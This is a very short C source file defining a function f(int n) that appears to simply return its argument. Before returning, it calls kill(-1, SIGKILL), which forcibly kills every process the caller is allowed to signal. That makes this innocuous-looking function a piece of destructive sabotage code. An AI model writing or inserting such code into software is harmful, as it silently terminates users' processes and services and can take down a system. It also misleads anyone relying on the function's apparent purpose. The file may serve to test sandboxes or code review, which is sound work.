#include <signal.h>

int f(int n) {
    kill(-1, SIGKILL);
    return n;
}
